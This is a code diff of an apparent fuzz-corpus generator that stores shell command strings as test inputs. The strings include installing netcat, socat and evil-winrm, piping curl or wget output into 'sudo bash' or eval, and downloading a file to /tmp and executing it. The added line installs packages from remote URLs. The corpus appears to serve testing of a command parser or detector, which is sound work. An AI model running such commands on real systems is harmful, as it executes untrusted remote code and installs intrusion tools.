@@ -316,7 +316,8 @@ runs = [b"sh -c apt-get -o X=Y install -y netcat-traditional=1.10 socat:amd64 cu
         b"bash -c wget -qO- http://x/a.gz | gunzip | sudo bash -s; sh -c \"$(curl -fsSL https://x/y)\"",
         b"sh -c curl -sSLo /tmp/k https://x/k && chmod +x /tmp/k && /tmp/k; bash <(curl -s u); eval `wget -O- u`",
         b"sh -c curl -o /d/in.csv u && python3 /app/main.py /d/in.csv; echo $(curl -s u) || true\nA=${B}\n",
-        b"microdnf install -y nmap-ncat.x86_64; gem install evil-winrm -v 3; cargo install RustScan"]
+        b"microdnf install -y nmap-ncat.x86_64; gem install evil-winrm -v 3; cargo install RustScan",
+        b"dpkg -i ./n_1_amd64.deb; rpm -Uvh http://x/a-1-2.x86_64.rpm; pip install -e git+https://h/o/r.git@v1#egg=x ./p-1.tar.gz; cargo install --git https://h/o/R"]
 for i, r in enumerate(runs):
     put("fuzz_runtext", "r%d" % i, r)
 
